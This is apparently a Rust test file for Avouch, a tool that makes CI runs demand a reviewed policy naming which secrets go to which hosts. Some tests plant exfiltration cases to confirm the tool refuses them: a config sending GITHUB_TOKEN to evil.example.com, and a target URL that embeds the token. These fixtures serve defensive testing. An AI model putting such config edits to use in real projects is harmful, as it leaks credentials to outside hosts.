//! When a policy is demanded, and that the printed one is enough.

use std::sync::atomic::Ordering;

use crate::harness::{Project, Run};
use crate::trust::permits::{STOLEN, Setup};

#[test]
fn under_ci_a_policy_is_printed_and_given_back_it_is_accepted() {
    let setup = Setup::new();
    let policy = setup.needed();
    let address = setup.service.address;
    let expected = format!(
        "\
# What the sources of this project may use. Review every line: anyone who can change the sources can use all of
# this. Keep it outside the repository, and give it to Avouch with `--policy FILE` or `AVOUCH_POLICY`.
variables:
  ACME_TOKEN: {{ used_as: [bearer], sent_to: [http://{address}] }}
  GLOBEX_TOKEN: {{ used_as: [bearer], sent_to: [http://{address}] }}
  OPERATOR_TOKEN: {{ used_as: [bearer], sent_to: [http://{address}] }}
hosts:
  - \"{address}\" # checks/claim.yaml
"
    );
    assert_eq!(policy, expected);
    let path = setup.saved(&policy);
    for (args, env) in [
        (&["check", "--policy", &path][..], &[][..]),
        (&["check"], &[("AVOUCH_POLICY", path.as_str())]),
        (&["check"], &[("AVOUCH_POLICY", policy.as_str())]),
    ] {
        let env: Vec<_> = env.iter().copied().chain([("CI", "true")]).collect();
        let before = setup.requests.load(Ordering::SeqCst);
        let run = setup.run(args, &env);
        assert_eq!(run.code, Some(0), "{args:?}: {run}");
        assert!(setup.requests.load(Ordering::SeqCst) > before);
    }
}

#[test]
fn without_ci_none_is_demanded_and_each_verb_with_a_network_demands_one_under_ci() {
    let setup = Setup::new();
    for ci in ["", "false", "0"] {
        assert_eq!(setup.run(&["check"], &[("CI", ci)]).code, Some(0), "CI={ci}");
    }
    let before = setup.requests.load(Ordering::SeqCst);
    let policy = setup.needed();
    for verb in ["check", "build", "doctor", "falsify"] {
        let run = setup.run(&[verb], &[("CI", "1"), ("AVOUCH_POLICY", "")]);
        assert_eq!((run.code, run.out.as_str()), (Some(2), policy.as_str()), "{verb}: {run}");
    }
    let run = setup.run(&["check", "--format", "json"], &[("CI", "1")]);
    assert_eq!(run.out, policy, "the policy alone is on standard output");
    let address = "http://127.0.0.1:1/claims.json";
    let run = setup.run(&["serve", "--previous", address], &[("CI", "1")]);
    assert_eq!((run.code, run.out.as_str()), (Some(2), policy.as_str()), "{run}");
    for verb in
        [&["lint"][..], &["explain", "claim"], &["build", "--assessment", "assessment.json"]]
    {
        assert_eq!(setup.run(verb, &[("CI", "1")]).code, Some(0), "{verb:?}");
    }
    assert_eq!(setup.requests.load(Ordering::SeqCst), before);
}

#[test]
fn a_policy_is_printed_although_the_secrets_are_not_set() {
    let setup = Setup::new();
    let policy = setup.needed();
    let output = setup.project.command(&["check"]).env("CI", "true").output().unwrap();
    let run = setup.project.finish(&output);
    assert_eq!((run.code, run.out.as_str()), (Some(2), policy.as_str()), "{run}");
    setup.nothing_happened(&run);
}

#[test]
fn init_on_a_target_demands_one_too() {
    let setup = Setup::new();
    let empty = Project::empty();
    let target = format!("http://{}", setup.service.address);
    let init = |env: &[(&str, &str)]| {
        let args = [
            "init",
            "--organisation=Example",
            &format!("--target={target}"),
            "--url=https://security.example.com",
            "--contact=security@example.com",
            "--login=bearer",
            "--private=/me",
            "--secret=TOKEN",
        ];
        let mut command = empty.command(&args);
        command.env("TOKEN", "acme-token-0123456789").envs(env.iter().copied());
        empty.finish(&command.output().unwrap())
    };
    let run = init(&[("CI", "1")]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.out.contains(&format!("TOKEN: {{ used_as: [bearer], sent_to: [{target}] }}")));
    assert_eq!(setup.requests.load(Ordering::SeqCst), 0);
    let run = init(&[("CI", "1"), ("AVOUCH_POLICY", &run.out)]);
    assert!(setup.requests.load(Ordering::SeqCst) > 0, "{run}");
}

/// Our own project, with a live target.
#[test]
fn the_policy_of_our_own_project_permits_it() {
    let project = Project::own();
    let run = |args: &[&str], env: &[(&str, &str)]| -> Run {
        let mut command = project.command(args);
        for name in avouch_demo::Secrets::VARIABLES {
            command.env(name, format!("{name}-of-our-service-0123456789"));
        }
        command.envs(env.iter().copied());
        project.finish(&command.output().unwrap())
    };
    let live = "--target=https://127.0.0.1:1";
    let needed = run(&["check", live], &[("CI", "1")]);
    assert_eq!(needed.code, Some(2), "{needed}");
    for line in ["mta-sts", "${"] {
        assert!(!needed.out.contains(line), "{needed}");
    }
    for line in [
        "  - \"127.0.0.1:80\" # checks/encrypted-transport.yaml",
        "  OPS_TOKEN: { used_as: [bearer], sent_to: [https://127.0.0.1:1] }",
        "  - www.heroku.com:443 # checks/heroku-statement.yaml",
    ] {
        assert!(needed.out.contains(line), "{line}: {needed}");
    }
    let accepted = run(&["lint", live], &[("AVOUCH_POLICY", &needed.out)]);
    assert_eq!(accepted.code, Some(0), "{accepted}");
    let without = needed.out.replace("www.heroku.com", "www.heroku.org");
    let refused = run(&["lint", live, "--format=json"], &[("AVOUCH_POLICY", &without)]);
    assert_eq!(refused.code, Some(2), "{refused}");
    assert!(refused.out.contains("\"not-permitted\""), "{refused}");
}

#[test]
fn the_demo_needs_no_policy_although_its_variables_are_set() {
    let project = Project::fixture("transport");
    let actor = "actors: { robot: { bearer: \"${GITHUB_TOKEN}\" } }\nlimits:\n";
    project.edit("avouch.yaml", "limits:\n", actor);
    let run = |args: &[&str], env: &[(&str, &str)]| {
        let mut command = project.command(args);
        command.env("GITHUB_TOKEN", STOLEN).env("CI", "true").envs(env.iter().copied());
        project.finish(&command.output().unwrap())
    };
    let check = ["check", "lower-mail"];
    assert_eq!(run(&check, &[]).code, Some(0));
    // It permits nothing, and the demo needs nothing.
    assert_eq!(run(&check, &[("AVOUCH_POLICY", "# nothing\n{}")]).code, Some(0));
    let live = run(&["check", "--target", "https://127.0.0.1:1"], &[]);
    assert_eq!(live.code, Some(2), "{live}");
    assert!(live.out.contains("GITHUB_TOKEN: { used_as: [bearer]"), "{live}");
    let leak = "bearer: \"${GITHUB_TOKEN}\", send_to: [https://evil.example.com]";
    project.edit("avouch.yaml", "bearer: \"${GITHUB_TOKEN}\"", leak);
    let run = run(&check, &[]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.out.contains("sent_to: [https://evil.example.com]"), "{run}");
}

#[test]
fn a_program_demands_a_policy_and_is_bound_to_the_content_of_its_files() {
    const PROGRAM: &str = "\
- kind: command
  run: [scripts/look, --config=scripts/config]
  env: [GITHUB_TOKEN]
  text: good
  must_fail: [scripts/look, bad]
";
    let setup = Setup::with(PROGRAM);
    let ran = setup.outside.path().join("ran");
    let script = |more: &str| {
        let look = format!("#!/bin/sh\n{more}test \"$1\" = bad && echo bad || echo good\n");
        setup.project.write("scripts/look", &look);
        let executable = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(setup.project.path("scripts/look"), executable).unwrap();
    };
    script("");
    setup.project.write("scripts/config", "one\n");
    setup.project.edit("avouch.yaml", "actors:\n", "x_actors:\n");
    let text = setup.project.read("avouch.yaml");
    setup.project.write("avouch.yaml", text.split("x_actors:").next().unwrap());
    let policy = setup.needed();
    assert!(policy.contains("env: [GITHUB_TOKEN]"), "{policy}");
    assert!(policy.contains("scripts/config: sha256:"), "{policy}");
    let path = setup.saved(&policy);
    let check = ["check", "--policy", &path];
    let run = setup.run(&check, &[]);
    assert_eq!(run.code, Some(0), "{run}");
    script(&format!("touch {}\n", ran.display()));
    let run = setup.run(&check, &[]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.err.contains("the present content of `scripts/look`"), "{run}");
    assert!(!ran.exists());
    script("");
    setup.project.write("scripts/config", "two\n");
    let run = setup.run(&check, &[]);
    assert!(run.err.contains("the present content of `scripts/config`"), "{run}");
    setup.project.write("scripts/config", "one\n");
    setup.project.edit("checks/claim.yaml", "[GITHUB_TOKEN]", "[GITHUB_TOKEN, ACME_TOKEN]");
    let run = setup.run(&check, &[]);
    assert!(run.err.contains("the variable `ACME_TOKEN` for the program"), "{run}");
    setup.project.edit("checks/claim.yaml", "--config=scripts/config]", "other]");
    let run = setup.run(&check, &[]);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.err.contains("the program `scripts/look other`"), "{run}");
}

#[test]
fn a_target_from_a_variable_is_compared_as_it_is_written() {
    let setup = Setup::new();
    let target = format!("http://{}", setup.service.address);
    setup.project.edit("avouch.yaml", &format!("target: {target}"), "target: \"${TARGET}\"");
    let run = setup.run(&["check"], &[("CI", "1"), ("TARGET", &target)]);
    assert!(!run.out.contains(&setup.service.address.to_string()), "{run}");
    assert!(run.out.contains("sent_to: [\"${TARGET}\"]"), "{run}");
    let policy = run.out;
    let given = [("TARGET", target.as_str()), ("AVOUCH_POLICY", policy.as_str())];
    let run = setup.run(&["check"], &given);
    assert_eq!(run.code, Some(0), "{run}");
    setup.project.edit(
        "avouch.yaml",
        "target: \"${TARGET}\"",
        "target: \"https://${GITHUB_TOKEN}.test\"",
    );
    let run = setup.run(&["check"], &given);
    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.err.contains("the variable `GITHUB_TOKEN` as `target`"), "{run}");
    assert!(!format!("{run}").contains(STOLEN), "{run}");
}

#[test]
fn a_policy_is_read_strictly_with_places() {
    let setup = Setup::new();
    for (policy, words) in [
        ("hots: [a.test:443]\n", "AVOUCH_POLICY:1:1"),
        ("hots: [a.test:443]\n", "did you mean `hosts`?"),
        ("hosts: [a.test]\n", "`a.test` is not a host with its port"),
        ("hosts: [\"*\", \"*:443\"]\n", "`*:443` is not a host with its port"),
        ("roots: [ca.pem]\n", "`ca.pem` is not a SHA-256"),
        ("waivers: [{ role: security, until: soon }]\n", "`soon` is not a day in the calendar"),
        ("variables: { A: { used: [bearer] } }\n", "did you mean `used_as`?"),
        ("- a\n", "expected a mapping"),
        ("\n", "has no entries"),
    ] {
        let run = setup.run(&["check"], &[("AVOUCH_POLICY", policy)]);
        assert_eq!(run.code, Some(2), "{policy}: {run}");
        assert!(run.err.contains(words), "{words}: {run}");
        setup.nothing_happened(&run);
    }
}

#[test]
fn the_guide_shows_the_policy_of_our_own_project() {
    let project = Project::own();
    let mut command = project.command(&["check", "--target", "https://addon.example.com"]);
    command.env("CI", "true");
    for name in avouch_demo::Secrets::VARIABLES {
        command.env(name, format!("{name}-of-our-service-0123456789"));
    }
    let run = project.finish(&command.output().unwrap());
    let guide = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/how-to-ci.md");
    let guide = std::fs::read_to_string(guide).unwrap();
    assert!(guide.contains(&format!("```yaml\n{}```\n", run.out)), "{run}");
}
